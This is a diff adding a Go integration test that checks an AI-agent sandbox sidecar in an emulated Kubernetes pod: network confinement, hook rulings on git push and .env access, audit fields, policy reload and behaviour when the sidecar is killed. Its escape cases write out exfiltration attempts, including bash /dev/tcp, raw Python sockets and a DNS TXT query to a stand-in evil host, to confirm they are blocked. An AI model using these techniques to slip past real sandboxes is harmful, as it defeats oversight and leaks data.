@@ -1,0 +1,307 @@
+//go:build linux
+
+package integration
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/barry-rocks/sandbox/internal/testenv"
+	"github.com/barry-rocks/sandbox/proxy/proxytest"
+)
+
+// The pod of docs/kubernetes.md, emulated with the real container engine:
+// a pause container holds the pod's network namespace (linked to the fake
+// world), and the init container (sandboxd netinit, root with NET_ADMIN
+// only), the sidecar (sandboxd proxy --sidecar, its own uid, no
+// capability) and the agent's container (the agent's uid, no capability,
+// Docker's default seccomp profile) join it with --network container:,
+// as a pod's containers share theirs.
+const (
+	podCapturePort = "15001"
+	podDNSPort     = "15053"
+	podHealthPort  = "15021"
+	podProxyUID    = 1337
+)
+
+// podPolicy is the pod's session policy: the world's allowed hosts, git
+// push denied to the hooks, .env files denied.
+func podPolicy(allow ...string) string {
+	return "version: 1\nharness: claude-code\nsession:\n  bound:\n" +
+		"    bash: {denyPrograms: [\"git:push\"]}\n" +
+		"    files: {deny: [\"**/.env\"]}\n" +
+		"    network: {enforce: sandbox, domains: [denied.test], allowDomains: [" + strings.Join(allow, ", ") + "]}\n"
+}
+
+// testPod is one emulated pod.
+type testPod struct {
+	pause, sidecar *runningContainer
+	w              *world
+	dir            string // shared: the policy's ConfigMap-like directory, the hook socket's volume
+	generation     int
+}
+
+// startPod starts the pause container and the world around it, runs
+// netinit, and starts the sidecar with the policy, waiting for /readyz.
+func startPod(t *testing.T, name, policy string) *testPod {
+	t.Helper()
+	p := &testPod{dir: sharedDir(t)}
+	p.pause = startContainer(t, containerOpts{hostTools: true})
+	p.w = newWorldAround(t, proxytest.AttachNetns(t, p.pause.pid), false)
+	// A pod's network has a default route (the CNI's): the cluster's
+	// resolver, here the one Docker names in resolv.conf, is reached
+	// through it, so the agent's DNS to it is sent, and redirected.
+	sh(t, "ip", "-n", p.w.host.Name, "route", "add", "default", "via", worldAddr)
+	for _, d := range []string{"policy", "run"} {
+		if err := os.MkdirAll(filepath.Join(p.dir, d), 0o777); err != nil {
+			t.Fatal(err)
+		}
+		os.Chmod(filepath.Join(p.dir, d), 0o777)
+	}
+	p.swapPolicy(t, policy)
+	net := "container:" + p.pause.name
+	r := containerRun(t, containerOpts{network: net, hostTools: true, flags: []string{"--user", "0:0", "--cap-drop", "ALL", "--cap-add", "NET_ADMIN"}},
+		containerSandboxd, "netinit", "--agent-uid", strconv.Itoa(containerAgentUID), "--capture-port", podCapturePort, "--dns-port", podDNSPort)
+	if r.code != 0 || !strings.Contains(r.stdout, "confined") {
+		t.Fatalf("netinit: %s", r)
+	}
+	p.sidecar = startDetached(t, containerOpts{network: net, hostTools: true, flags: []string{
+		"--user", fmt.Sprintf("%d:%d", podProxyUID, podProxyUID), "--cap-drop", "ALL",
+		"--env", "POD_NAME=" + name, "--env", "POD_NAMESPACE=agents", "--env", "POD_UID=uid-" + name}},
+		containerSandboxd, "proxy", "--sidecar", "--policy", filepath.Join(p.dir, "policy", "policy.yaml"), "--agent-uid", strconv.Itoa(containerAgentUID),
+		"--capture-listen", "127.0.0.1:"+podCapturePort, "--dns-listen", "127.0.0.1:"+podDNSPort,
+		"--hook-socket", filepath.Join(p.dir, "run", "hooks.sock"), "--health-listen", "127.0.0.1:"+podHealthPort,
+		"--dns-upstream", dnsAddr+":53", "--allow-private", "192.0.2.0/24", "--allow-private", "2001:db8::/32")
+	deadline := time.Now().Add(30 * time.Second)
+	for {
+		h := p.sidecar.exec(t, 10*time.Second, nil, "curl", "-sS", "--max-time", "2", "http://127.0.0.1:"+podHealthPort+"/readyz")
+		if h.code == 0 && strings.TrimSpace(h.stdout) == "ok" {
+			return p
+		}
+		if time.Now().After(deadline) {
+			t.Fatalf("the sidecar is not ready: %s\nlogs: %s", h, docker(t, time.Minute, "logs", p.sidecar.name))
+		}
+		time.Sleep(200 * time.Millisecond)
+	}
+}
+
+// swapPolicy writes policy as the kubelet updates a ConfigMap volume: a
+// new timestamped directory, then the ..data symlink renamed over to it
+// (policy.yaml is a symlink through ..data).
+func (p *testPod) swapPolicy(t *testing.T, policy string) {
+	t.Helper()
+	p.generation++
+	dir := filepath.Join(p.dir, "policy")
+	gen := fmt.Sprintf("..2026_12_06_00_00_%02d.%d", p.generation, p.generation)
+	if err := os.Mkdir(filepath.Join(dir, gen), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, gen, "policy.yaml"), []byte(policy), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	tmp := filepath.Join(dir, "..data_tmp")
+	if err := os.Symlink(gen, tmp); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Rename(tmp, filepath.Join(dir, "..data")); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := os.Lstat(filepath.Join(dir, "policy.yaml")); err != nil {
+		if err := os.Symlink("..data/policy.yaml", filepath.Join(dir, "policy.yaml")); err != nil {
+			t.Fatal(err)
+		}
+	}
+}
+
+// agent runs argv in a new container of the pod as the agent: its uid, no
+// capability, the world's environment.
+func (p *testPod) agent(t *testing.T, env []string, argv ...string) dockerResult {
+	t.Helper()
+	flags := []string{"--user", fmt.Sprintf("%d:%d", containerAgentUID, containerAgentUID), "--cap-drop", "ALL"}
+	for _, e := range p.w.env(containerWorkdir, env) {
+		flags = append(flags, "--env", e)
+	}
+	return containerRun(t, containerOpts{network: "container:" + p.pause.name, hostTools: true, flags: flags}, argv...)
+}
+
+// logs are the sidecar's stdout (its audit) so far.
+func (p *testPod) logs(t *testing.T) string {
+	t.Helper()
+	return docker(t, time.Minute, "logs", p.sidecar.name).stdout
+}
+
+// startDetached starts argv in a new detached container that lives until
+// the test ends.
+func startDetached(t *testing.T, o containerOpts, argv ...string) *runningContainer {
+	t.Helper()
+	c := &runningContainer{name: newContainerName()}
+	r := docker(t, 2*time.Minute, append(o.runArgs(t, c.name, "--detach"), argv...)...)
+	if r.code != 0 {
+		t.Fatalf("docker run -d %v: %s", argv, r)
+	}
+	r = docker(t, time.Minute, "inspect", "--format", "{{.State.Pid}}", c.name)
+	if c.pid, _ = strconv.Atoi(strings.TrimSpace(r.stdout)); c.pid <= 0 {
+		// Gone already (--rm): once more in the foreground, for its
+		// reason.
+		again := containerRun(t, o, append([]string{"timeout", "5"}, argv...)...)
+		t.Fatalf("%v exited at once: %s", argv, again)
+	}
+	return c
+}
+
+// TestPodSidecar: the agent's container reaches an allowed host through
+// the sidecar's capture and nothing else (direct addresses, UDP, DNS to
+// any server, names that resolve to loopback or the pod's own address);
+// its hook calls are ruled on the shared socket (git push denied, a
+// search over a directory holding a .env denied naming it, as hooks only:
+// the pod has no filesystem layer); the sidecar's audit on stdout carries
+// the pod's name, namespace and uid; a ConfigMap-style swap of the policy
+// that drops the allowed host applies within a second and is audited;
+// with the sidecar killed the agent has no network at all.
+func TestPodSidecar(t *testing.T) {
+	requireDocker(t)
+	testenv.NeedRoot(t)
+	for _, c := range []string{"curl", "python3", "dig", "bash"} {
+		if _, err := os.Stat(filepath.Join("/usr/bin", c)); err != nil {
+			testenv.SkipOrFail(t, "/usr/bin/"+c+" is not installed")
+		}
+	}
+	containerImage(t)
+	p := startPod(t, "pod-a", podPolicy("allowed.test", "rebind.test", "hostaddr.test"))
+	marker := fmt.Sprintf("/pod-%d", time.Now().UnixNano())
+
+	pyConnect := `
+import socket, sys
+kind = {"tcp": socket.SOCK_STREAM, "udp": socket.SOCK_DGRAM}[sys.argv[1]]
+s = socket.socket(socket.AF_INET, kind)
+s.settimeout(5)
+try:
+    if kind == socket.SOCK_STREAM:
+        s.connect((sys.argv[2], int(sys.argv[3])))
+        s.sendall(b"ESCAPED\n")
+        print("closed", s.recv(100))
+    else:
+        s.sendto(b"exfil", (sys.argv[2], int(sys.argv[3])))
+        print("ESCAPED")
+except OSError as e:
+    print("refused", e.errno)
+`
+	for _, c := range []escapeCase{
+		// A denied name does not resolve: the DNS proxy refuses it.
+		{"curl http denied", []string{"sh", "-c", "curl -sS --max-time 20 http://denied.test" + marker + "; echo code=$?"}, "code=6"},
+		// The allowed host's address, a denied name: the capture goes by
+		// the name the client sends, and the proxy refuses it.
+		{"a denied name at an allowed address", []string{"sh", "-c", "curl -sS --max-time 10 --resolve denied.test:443:" + webAddr + " https://denied.test" + marker + " && echo ESCAPED; echo done"}, "done"},
+		{"curl to an address", []string{"sh", "-c", "curl -sS --max-time 5 http://" + webAddr + ":" + udpEchoPort + "/ ; echo code=$?"}, "not in allowlist: " + webAddr + "\ncode=0"},
+		{"bash dev tcp", []string{"bash", "-c", "exec 3<>/dev/tcp/" + webAddr + "/" + udpEchoPort + " && echo ESCAPED >&3 && timeout 10 cat <&3; echo closed"}, "closed"},
+		{"python tcp", []string{"python3", "-c", pyConnect, "tcp", webAddr, udpEchoPort}, "closed b''"},
+		{"python udp", []string{"python3", "-c", pyConnect, "udp", webAddr, udpEchoPort}, "refused 1\n"},
+		{"loopback port of the sidecar's health", []string{"python3", "-c", pyConnect, "tcp", "127.0.0.1", podHealthPort}, "refused"},
+		{"dns to the world's resolver", []string{"sh", "-c", "dig +tries=1 +time=5 @" + dnsAddr + " direct.denied.test A"}, "status: REFUSED"},
+		{"dns denied name", []string{"dig", "+tries=1", "+time=5", "@127.0.0.1", "secret-data.denied.test", "A"}, "status: REFUSED"},
+		{"dns txt exfiltration", []string{"dig", "+tries=1", "+time=5", "@127.0.0.1", "c2VjcmV0.exfil.evil.test", "TXT"}, "status: REFUSED"},
+		// The DNS proxy strips the answers that point inside: nothing to
+		// connect to (and the proxy would refuse the address).
+		{"allowed name resolving to loopback", []string{"sh", "-c", "curl -sS --max-time 10 http://rebind.test/; echo code=$?"}, "code=6"},
+		{"allowed name resolving to the pod's address", []string{"sh", "-c", "curl -sS --max-time 10 http://hostaddr.test/; echo code=$?"}, "code=6"},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			r := p.agent(t, nil, c.argv...)
+			if !strings.Contains(r.stdout, c.want) || strings.Contains(r.stdout, "ESCAPED") {
+				t.Fatalf("%s\nwant %q", r, c.want)
+			}
+		})
+	}
+
+	// Before any allowed name is resolved: the capture would take a
+	// connection to its address as one to the name it came from.
+	if _, seen, tcp, udp := p.w.seen(); strings.Contains(strings.Join(seen, "\n"), "denied.test") || tcp > 0 || udp > 0 {
+		t.Errorf("the world saw a denied request (http %q, raw tcp %d, udp %d)", seen, tcp, udp)
+	}
+
+	t.Run("allowed", func(t *testing.T) {
+		r := p.agent(t, nil, "curl", "-sS", "--max-time", "20", "https://allowed.test"+marker)
+		if r.code != 0 || !strings.Contains(r.stdout, "hello from allowed.test") {
+			d := p.agent(t, nil, "sh", "-c", "cat /etc/resolv.conf; getent hosts allowed.test; echo getent=$?; dig +tries=1 +time=3 @127.0.0.1 allowed.test A")
+			t.Fatalf("curl https://allowed.test from the agent: %s\nresolution: %s\nsidecar: %s", r, d, p.logs(t))
+		}
+		if _, seen, _, _ := p.w.seen(); !strings.Contains(strings.Join(seen, "\n"), "allowed.test "+marker) {
+			t.Errorf("the world never saw the allowed request (it saw %q)", seen)
+		}
+	})
+
+	t.Run("hooks", func(t *testing.T) {
+		ws := sharedDir(t)
+		if err := os.WriteFile(filepath.Join(ws, ".env"), []byte("TOKEN=pod-secret\n"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		os.Mkdir(filepath.Join(ws, "src"), 0o777)
+		sock := "BARRY_HOOK_SOCKET=unix:" + filepath.Join(p.dir, "run", "hooks.sock")
+		for _, c := range []struct{ command, want string }{
+			{"git push origin main", `denied by bash.denyPrograms \"git:push\"`},
+			{"grep -rn TOKEN .", "reaches " + ws + "/.env"},
+			{"grep -rn TOKEN src", ""},
+		} {
+			payload := fmt.Sprintf(`{"session_id":"s","hook_event_name":"PreToolUse","cwd":%q,"tool_name":"Bash","tool_input":{"command":%q}}`, ws, c.command)
+			r := p.agent(t, []string{sock}, "sh", "-c", "printf '%s' \"$0\" | "+containerHookgate+" check --harness claude-code", payload)
+			switch {
+			case r.code != 0:
+				t.Errorf("%s: hookgate: %s", c.command, r)
+			case c.want == "" && r.stdout != "":
+				t.Errorf("%s: %s, want no objection", c.command, r.stdout)
+			case c.want != "" && (!strings.Contains(r.stdout, `"permissionDecision":"deny"`) || !strings.Contains(r.stdout, c.want)):
+				t.Errorf("%s: %s, want a deny with %q", c.command, r.stdout, c.want)
+			}
+		}
+	})
+
+	t.Run("fleet", func(t *testing.T) {
+		logs := p.logs(t)
+		if !strings.Contains(logs, `"msg":"session start"`) || !strings.Contains(logs, `"pod":"pod-a"`) || !strings.Contains(logs, `"namespace":"agents"`) || !strings.Contains(logs, `"pod_uid":"uid-pod-a"`) {
+			t.Errorf("the sidecar's audit on stdout lacks the session start or the pod's fields:\n%s", logs)
+		}
+		for _, l := range strings.Split(strings.TrimSpace(logs), "\n") {
+			if strings.Contains(l, `"decision"`) && !strings.Contains(l, `"pod":"pod-a"`) {
+				t.Errorf("a decision line without the pod: %s", l)
+			}
+		}
+	})
+
+	t.Run("reload", func(t *testing.T) {
+		if r := p.agent(t, nil, "curl", "-sS", "--max-time", "20", "https://allowed.test"+marker+"-before"); !strings.Contains(r.stdout, "hello from allowed.test") {
+			t.Fatalf("allowed.test before the swap: %s", r)
+		}
+		p.swapPolicy(t, podPolicy("rebind.test"))
+		swapped := time.Now()
+		var r dockerResult
+		for time.Since(swapped) < 10*time.Second {
+			r = p.agent(t, nil, "curl", "-sS", "--max-time", "10", "-w", "\n%{http_code}", "https://allowed.test"+marker+"-after")
+			if r.code != 0 || !strings.Contains(r.stdout, "hello from allowed.test") {
+				break
+			}
+			time.Sleep(100 * time.Millisecond)
+		}
+		t.Logf("the swap took effect after %v (measured with a container start per try)", time.Since(swapped))
+		if strings.Contains(r.stdout, "hello from allowed.test") {
+			t.Fatalf("allowed.test is still reached 10 s after the policy dropped it: %s", r)
+		}
+		if logs := p.logs(t); !strings.Contains(logs, `"msg":"policy reload"`) {
+			t.Errorf("no policy reload line in the sidecar's audit:\n%s", logs)
+		}
+	})
+
+	t.Run("sidecar killed", func(t *testing.T) {
+		if r := docker(t, time.Minute, "kill", p.sidecar.name); r.code != 0 {
+			t.Fatalf("docker kill: %s", r)
+		}
+		r := p.agent(t, nil, "sh", "-c", "curl -sS --max-time 10 http://"+webAddr+"/ ; echo code=$?; dig +tries=1 +time=3 @127.0.0.1 allowed.test A; echo dig=$?")
+		if !strings.Contains(r.stdout, "code=7") || !strings.Contains(r.stdout, "dig=9") {
+			t.Errorf("with the sidecar gone the agent's network is not closed: %s", r)
+		}
+	})
+}
